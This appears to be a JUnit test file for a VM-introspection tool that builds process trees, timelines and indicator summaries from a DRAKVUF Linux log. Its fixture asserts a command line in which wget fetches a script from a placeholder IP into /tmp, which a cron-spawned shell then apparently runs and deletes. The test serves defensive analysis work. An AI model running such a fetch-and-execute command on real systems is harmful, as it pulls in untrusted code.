package io.vmiscope.analysis;

import io.vmiscope.store.DuckDbEventStore;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static io.vmiscope.analysis.Fixtures.SECOND;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Golden tests over an imported DRAKVUF Linux log with pid reuse: pid 500 is wget (forked by sshd, exits),
 * then sh (forked by cron, still running), which forks rm (501) and a thread (502).
 */
class DrakvufLinuxAnalysisTest {

    private static final String VM = "linux-guest";
    private static final long BASE = 1_700_001_000L * SECOND;

    @TempDir
    Path dir;

    private DuckDbEventStore store;
    private Analysis analysis;

    @BeforeEach
    void importAndRefresh() {
        store = Fixtures.store(dir);
        Fixtures.importDrakvuf(store, "drakvuf-linux-pid-reuse.jsonl", VM);
        analysis = Analysis.open(store);
        assertThat(analysis.refresh(VM).mode()).isEqualTo(Refresh.Mode.FULL);
    }

    @AfterEach
    void close() {
        analysis.close();
        store.close();
    }

    private ProcessKey wget() {
        return analysis.processesWithPid(VM, 500).get(0).key();
    }

    private ProcessKey sh() {
        return analysis.processesWithPid(VM, 500).get(1).key();
    }

    @Test
    void wholeTree_matchesTheGoldenFile_withPidReuseAsTwoProcesses() {
        assertThat(Fixtures.render(analysis.processTree(VM), BASE))
                .isEqualTo(Fixtures.text("drakvuf-linux-pid-reuse.tree.txt"));
    }

    @Test
    void reusedPid_hasOneProcessPerLifetime_eachWithItsOwnParentAndImage() {
        List<ProcessNode> five = analysis.processesWithPid(VM, 500);
        assertThat(five).extracting(ProcessNode::name).containsExactly("wget", "sh");
        assertThat(five.get(0).parent()).isEqualTo(new ProcessKey(VM, 300, BASE));
        assertThat(five.get(0).image()).isEqualTo("/usr/bin/wget");
        assertThat(five.get(0).commandLine()).isEqualTo("wget http://203.0.113.9/x.sh -O /tmp/x.sh");
        assertThat(five.get(0).exitCode()).isZero();
        assertThat(five.get(1).parent()).isEqualTo(new ProcessKey(VM, 400, BASE));
        assertThat(five.get(1).startNanos()).isEqualTo(BASE + 3 * SECOND);
        assertThat(five.get(1).origin()).isEqualTo("fork");
    }

    @Test
    void treeAtATime_showsOnlyTheProcessHoldingThePidThen() {
        ProcessTree early = analysis.processTree(VM, BASE + 1_500_000_000L);
        assertThat(early.withPid(500)).singleElement().extracting(ProcessNode::name).isEqualTo("wget");
        assertThat(early.nodes()).extracting(ProcessNode::pid).containsExactly(1, 300, 500, 400, 2);

        ProcessTree late = analysis.processTree(VM, BASE + 3_500_000_000L);
        assertThat(late.withPid(500)).singleElement().extracting(ProcessNode::name).isEqualTo("sh");
        assertThat(late.node(late.withPid(500).get(0).key()).orElseThrow().parent())
                .isEqualTo(new ProcessKey(VM, 400, BASE));
        assertThat(late.nodes()).extracting(ProcessNode::pid).doesNotContain(501, 700);
    }

    @Test
    void treeOverARange_holdsEveryProcessAliveAtAnyTimeInIt() {
        ProcessTree range = analysis.processTree(VM, BASE + 1_500_000_000L, BASE + 3_000_100_000L);
        assertThat(range.withPid(500)).extracting(ProcessNode::name).containsExactly("wget", "sh");
        assertThat(range.roots()).extracting(ProcessKey::pid).containsExactly(1, 2);
    }

    @Test
    void threadExit_doesNotEndTheProcess_andThreadEventsBelongToIt() {
        ProcessNode shNode = analysis.process(sh()).orElseThrow();
        assertThat(shNode.lifetime()).isEqualTo(Lifetime.STARTED_STILL_RUNNING);
        Page<EventRow> threadEvents = analysis.processEvents(VM, sh(), EventQuery.ALL.withNames("nanosleep"), 0, 10);
        assertThat(threadEvents.items()).singleElement().extracting(EventRow::tid).isEqualTo(502);
    }

    @Test
    void processWithoutCreationOrListing_isRunningBeforeMonitoring_underTheParentItsEventsName() {
        ProcessNode agent = analysis.processesWithPid(VM, 700).get(0);
        assertThat(agent.lifetime()).isEqualTo(Lifetime.RUNNING_BEFORE_MONITORING);
        assertThat(agent.origin()).isEqualTo("activity");
        assertThat(agent.parent()).isEqualTo(new ProcessKey(VM, 1, BASE));
    }

    @Test
    void processEvents_filterByKindNameTextAndTime_andPageInTimeOrder() {
        assertThat(analysis.processEvents(VM, wget(), EventQuery.ALL, 0, 100).total()).isEqualTo(8);
        assertThat(analysis.processEvents(VM, wget(), EventQuery.ALL.withKinds("network"), 0, 100).items())
                .extracting(EventRow::kind).containsExactly("network", "network", "network");
        assertThat(analysis.processEvents(VM, wget(), EventQuery.ALL.withNames("tcp_connect"), 0, 100).total())
                .isEqualTo(2);
        assertThat(analysis.processEvents(VM, wget(), EventQuery.ALL.containing("203.0.113.9"), 0, 100).items())
                .extracting(EventRow::kind).containsExactly("exec", "network", "network");
        assertThat(analysis.processEvents(VM, wget(), EventQuery.ALL.containing("WGET HTTP"), 0, 100).total())
                .isEqualTo(1);

        Page<EventRow> page = analysis.processEvents(VM, wget(), EventQuery.ALL, 3, 3);
        assertThat(page.items()).extracting(EventRow::name)
                .containsExactly("tcp_connect", "tcp_connect", "udp_sendmsg");
        assertThat(page.total()).isEqualTo(8);
        assertThat(page.hasMore()).isTrue();
        assertThat(page.items()).extracting(EventRow::timeNanos).isSorted();

        Page<EventRow> window = analysis.processEvents(VM, wget(),
                EventQuery.ALL.between(BASE + SECOND + 500_000, BASE + SECOND + 700_000), 0, 10);
        assertThat(window.items()).extracting(EventRow::name).containsExactly("tcp_connect", "udp_sendmsg", "write");
    }

    @Test
    void processEvents_ofTheSecondHolderOfAPid_excludeTheFirstOnesEvents() {
        Page<EventRow> events = analysis.processEvents(VM, sh(), EventQuery.ALL, 0, 100);
        assertThat(events.total()).isEqualTo(11);
        assertThat(events.items()).allSatisfy(e -> assertThat(e.timeNanos()).isGreaterThanOrEqualTo(BASE + 3 * SECOND));
        assertThat(events.items()).extracting(EventRow::process).doesNotContain("wget");
    }

    @Test
    void processEvents_refuseAnUnknownProcessAndABadPage() {
        assertThatThrownBy(() -> analysis.processEvents(VM, new ProcessKey(VM, 500, BASE), EventQuery.ALL, 0, 10))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("no process 500@");
        assertThatThrownBy(() -> analysis.processEvents(VM, wget(), EventQuery.ALL, 0, 0))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void timeline_countsEachProcessPerSecondByCategory() {
        Timeline timeline = analysis.timeline(VM, BASE + SECOND, BASE + 5 * SECOND, 4);
        assertThat(timeline.bucketNanos()).isEqualTo(SECOND);
        assertThat(timeline.buckets()).isEqualTo(4);
        Timeline.Lane wget = lane(timeline, wget());
        assertThat(wget.events()).isEqualTo(8);
        assertThat(wget.cells()).containsExactly(
                new Timeline.Cell(0, 7, 3, 3, 1, 0, 0, 0),
                new Timeline.Cell(1, 1, 0, 0, 1, 0, 0, 0));
        assertThat(wget.counts("network", 4)).containsExactly(3, 0, 0, 0);
        assertThat(lane(timeline, sh()).counts(null, 4)).containsExactly(0, 0, 5, 6);
        assertThat(timeline.lanes()).extracting(l -> l.process().pid()).containsExactly(300, 400, 500, 500, 501, 700);
        assertThat(lane(timeline, analysis.processesWithPid(VM, 700).get(0).key()).cells())
                .containsExactly(new Timeline.Cell(3, 1, 0, 0, 0, 1, 0, 0));
    }

    @Test
    void timeline_withWideBuckets_readsTheTenSecondTable_andRoundsTheRangeToIt() {
        Timeline timeline = analysis.timeline(VM, BASE + 3 * SECOND, BASE + 103 * SECOND, 5);
        assertThat(timeline.fromNanos()).isEqualTo(BASE);
        assertThat(timeline.bucketNanos()).isEqualTo(20 * SECOND);
        assertThat(timeline.buckets()).isEqualTo(6);
        assertThat(lane(timeline, wget()).cells()).containsExactly(new Timeline.Cell(0, 8, 3, 3, 2, 0, 0, 0));
        assertThat(timeline.lanes()).extracting(Timeline.Lane::events).containsExactly(1L, 1L, 8L, 11L, 3L, 1L);
    }

    @Test
    void timeline_narrowerThanASecond_isCountedFromTheEvents() {
        Timeline timeline = analysis.timeline(VM, BASE + 3 * SECOND, BASE + 3 * SECOND + 1_000_000, 10);
        assertThat(timeline.bucketNanos()).isEqualTo(100_000);
        assertThat(timeline.fromNanos()).isEqualTo(BASE + 3 * SECOND);
        assertThat(lane(timeline, sh()).counts(null, 10)).containsExactly(0, 1, 1, 0, 0, 0, 1, 1, 1, 0);
        assertThat(lane(timeline, analysis.processesWithPid(VM, 501).get(0).key()).cells()).containsExactly(
                new Timeline.Cell(3, 1, 0, 0, 1, 0, 0, 0), new Timeline.Cell(4, 1, 1, 0, 0, 0, 0, 0),
                new Timeline.Cell(5, 1, 0, 0, 1, 0, 0, 0));
    }

    @Test
    void timeline_withMoreProcessesThanLanes_showsTheBusiest_andSumsTheRestIntoOthers() {
        Timeline all = analysis.timeline(VM, BASE + SECOND, BASE + 5 * SECOND, 4);
        assertThat(all.processes()).isEqualTo(6);
        assertThat(all.folded()).isZero();
        assertThat(all.others()).isNull();

        Timeline top = analysis.timeline(VM, BASE + SECOND, BASE + 5 * SECOND, 4, 2);
        assertThat(top.lanes()).extracting(Timeline.Lane::process).containsExactly(wget(), sh());
        assertThat(top.lanes()).extracting(Timeline.Lane::name).containsExactly("wget", "sh");
        assertThat(top.lanes()).containsExactly(lane(all, wget()), lane(all, sh()));
        assertThat(top.processes()).isEqualTo(6);
        assertThat(top.folded()).isEqualTo(4);
        Timeline.Lane others = top.others();
        assertThat(others.process()).isNull();
        assertThat(others.name()).isEqualTo(Timeline.OTHERS);
        List<Timeline.Lane> rest = all.lanes().stream().filter(l -> !top.lanes().contains(l)).toList();
        assertThat(others.events()).isEqualTo(rest.stream().mapToLong(Timeline.Lane::events).sum());
        for (String category : List.of("file", "network", "process", "memory", "ipc", "other")) {
            long[] summed = new long[4];
            rest.forEach(l -> java.util.Arrays.setAll(summed, i -> summed[i] + l.counts(category, 4)[i]));
            assertThat(others.counts(category, 4)).as(category).containsExactly(summed);
        }
    }

    @Test
    void timeline_withOneLane_showsTheBusiestProcess_andRejectsLaneCountsOutOfRange() {
        Timeline one = analysis.timeline(VM, BASE + SECOND, BASE + 5 * SECOND, 4, 1);
        assertThat(one.lanes()).extracting(Timeline.Lane::process).containsExactly(sh());
        assertThat(one.others().events() + 11).isEqualTo(analysis.timeline(VM, BASE + SECOND, BASE + 5 * SECOND, 4)
                .lanes().stream().mapToLong(Timeline.Lane::events).sum());
        assertThatThrownBy(() -> analysis.timeline(VM, BASE, BASE + SECOND, 4, 0))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> analysis.timeline(VM, BASE, BASE + SECOND, 4, Analysis.MAX_TIMELINE_LANES + 1))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void timeline_withBucketsOfATenthOfASecondOrMore_readsTheFineTable_andRoundsTheWidthToIt() {
        Timeline half = analysis.timeline(VM, BASE + 3 * SECOND, BASE + 5 * SECOND, 4);
        assertThat(half.bucketNanos()).isEqualTo(SECOND / 2);
        assertThat(lane(half, sh()).counts(null, 4)).containsExactly(5, 0, 6, 0);

        Timeline rounded = analysis.timeline(VM, BASE + 3 * SECOND + 50_000_000, BASE + 4 * SECOND, 6);
        assertThat(rounded.fromNanos()).isEqualTo(BASE + 3 * SECOND);
        assertThat(rounded.bucketNanos()).as("150 ms rounded up to whole 100 ms").isEqualTo(SECOND / 5);
        assertThat(rounded.buckets()).isEqualTo(5);
        assertThat(lane(rounded, sh()).counts(null, 5)).containsExactly(5, 0, 0, 0, 0);
    }

    @Test
    void timeline_readsTheCoarsestTableWhoseBucketsFitTheWidth() {
        assertThat(Analysis.tableGrain(SECOND / 10 - 1)).as("narrower than 100 ms: the events").isZero();
        assertThat(Analysis.tableGrain(SECOND / 10)).isEqualTo(Analysis.FINE_BUCKET_NANOS);
        assertThat(Analysis.tableGrain(SECOND - 1)).isEqualTo(Analysis.FINE_BUCKET_NANOS);
        assertThat(Analysis.tableGrain(SECOND)).isEqualTo(Analysis.ACTIVITY_BUCKET_NANOS);
        assertThat(Analysis.tableGrain(10 * SECOND - 1)).isEqualTo(Analysis.ACTIVITY_BUCKET_NANOS);
        assertThat(Analysis.tableGrain(10 * SECOND)).isEqualTo(Analysis.COARSE_BUCKET_NANOS);
        assertThat(Analysis.tableGrain(3600 * SECOND)).isEqualTo(Analysis.COARSE_BUCKET_NANOS);
    }

    @Test
    void behaviourGraph_showsTopFiles_groupsTheRestByDirectory_andListsChildren() {
        BehaviourGraph graph = analysis.behaviourGraph(VM, sh(), 2);
        assertThat(graph.files().top()).extracting(BehaviourGraph.Target::name)
                .containsExactly("/etc/crontab", "/etc/group");
        BehaviourGraph.Target crontab = graph.files().top().get(0);
        assertThat(crontab.events()).isEqualTo(2);
        assertThat(crontab.access()).isEqualTo("read");
        assertThat(crontab.firstNanos()).isEqualTo(BASE + 4 * SECOND);
        assertThat(crontab.lastNanos()).isEqualTo(BASE + 4 * SECOND + 100_000);
        assertThat(graph.files().groups()).containsExactly(
                new BehaviourGraph.TargetGroup("/etc/", 2, 2, BASE + 4 * SECOND + 200_000, BASE + 4 * SECOND + 400_000),
                new BehaviourGraph.TargetGroup("/var/log/", 1, 1, BASE + 4 * SECOND + 500_000,
                        BASE + 4 * SECOND + 500_000));
        assertThat(graph.files().total()).isEqualTo(5);
        assertThat(graph.images().top()).extracting(BehaviourGraph.Target::name).containsExactly("/bin/sh");
        assertThat(graph.children()).extracting(c -> c.key().pid(), BehaviourGraph.Child::name)
                .containsExactly(org.assertj.core.groups.Tuple.tuple(501, "rm"));
        assertThat(graph.moreChildren()).isZero();
    }

    @Test
    void behaviourGraph_groupsEndpointsByHost_andMergesOperationsOnOneFile() {
        BehaviourGraph graph = analysis.behaviourGraph(VM, wget(), 1);
        assertThat(graph.endpoints().top()).extracting(BehaviourGraph.Target::name).containsExactly("198.51.100.1:53");
        assertThat(graph.endpoints().groups()).extracting(BehaviourGraph.TargetGroup::group,
                BehaviourGraph.TargetGroup::more).containsExactly(org.assertj.core.groups.Tuple.tuple("203.0.113.9", 2L));
        assertThat(graph.endpoints().total()).isEqualTo(3);
        BehaviourGraph.Target script = graph.files().top().get(0);
        assertThat(script.name()).isEqualTo("/tmp/x.sh");
        assertThat(script.operations()).containsExactly("create", "write");
        assertThat(script.access()).isEqualTo("write");
        assertThat(graph.children()).isEmpty();
    }

    @Test
    void behaviourGraph_ofAParent_countsChildrenBeyondTopN() {
        BehaviourGraph systemd = analysis.behaviourGraph(VM, new ProcessKey(VM, 1, BASE), 2);
        assertThat(systemd.children()).extracting(c -> c.key().pid()).containsExactly(300, 400);
        assertThat(systemd.moreChildren()).isEqualTo(1);
    }

    @Test
    void summary_listsImagesWrittenAndDeletedFilesAndHosts_perVmAndPerProcess() {
        Summary summary = analysis.summary(VM);
        assertThat(summary.total().imagesExecuted().values()).containsExactly("/bin/sh", "/usr/bin/rm", "/usr/bin/wget");
        assertThat(summary.total().filesWritten().values()).containsExactly("/tmp/x.sh");
        assertThat(summary.total().filesDeleted().values()).containsExactly("/tmp/x.sh");
        assertThat(summary.total().hostsContacted().values()).containsExactly("198.51.100.1", "203.0.113.9");
        assertThat(summary.total().hostsContacted().distinct()).isEqualTo(2);
        assertThat(summary.processes()).extracting(Summary.ProcessIndicators::name).containsExactly("wget", "sh", "rm");
        Summary.Indicators rm = summary.processes().get(2).indicators();
        assertThat(rm.filesDeleted().values()).containsExactly("/tmp/x.sh");
        assertThat(rm.filesWritten().values()).isEmpty();
        assertThat(summary.processes().get(0).indicators().hostsContacted().distinct()).isEqualTo(2);
    }

    @Test
    void secondRefresh_withoutNewEvents_changesNothing() {
        Refresh again = analysis.refresh(VM);
        assertThat(again.mode()).isEqualTo(Refresh.Mode.UNCHANGED);
        assertThat(again.processes()).isEqualTo(8);
        assertThat(Fixtures.render(analysis.processTree(VM), BASE))
                .isEqualTo(Fixtures.text("drakvuf-linux-pid-reuse.tree.txt"));
    }

    private static Timeline.Lane lane(Timeline timeline, ProcessKey key) {
        return timeline.lanes().stream().filter(l -> l.process().equals(key)).findFirst().orElseThrow();
    }
}
